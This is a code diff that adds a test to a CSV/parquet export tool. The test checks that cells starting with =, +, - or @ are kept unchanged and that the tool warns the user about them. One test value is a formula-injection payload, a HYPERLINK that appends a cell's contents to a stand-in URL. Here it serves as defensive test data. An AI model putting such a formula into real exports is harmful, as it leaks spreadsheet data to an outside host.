@@ -60,6 +60,17 @@ def test_from_a_database(screen: Screen, fresh_database: Database, tmp_path: Pat
     check(screen, tmp_path, fresh_database.admin_url, "--table", "logs", "--key", "ref")
 
 
+def test_what_looks_like_a_formula_is_left_as_it_is_and_told(screen: Screen, tmp_path: Path) -> None:
+    formulas = ['=HYPERLINK("http://x/?"&A1,"open")', "+44 7700 900123", "-1 is what he said", "@mum"]
+    pq.write_table(pa.table({"ref": range(4), "text": formulas}), tmp_path / "in.parquet")
+    status, said = screen(tmp_path / "in.parquet", tmp_path / "out.csv")
+    assert status == 0
+    assert "cells may begin with = + - or @" in said
+    assert "every column as text" in said
+    assert [row["text"] for row in csv_rows(tmp_path / "out.csv")] == formulas
+    assert "every column" not in screen(tmp_path / "in.parquet", tmp_path / "out.parquet")[1]
+
+
 def test_lines_of_a_csv_end_alike_whatever_its_fields_hold(screen: Screen, tmp_path: Path) -> None:
     pq.write_table(pa.table({"ref": ["1", "2"], "text": ["bike\rtaken", "bike taken"]}), tmp_path / "in.parquet")
     assert screen(tmp_path / "in.parquet", tmp_path / "out.csv")[0] == 0
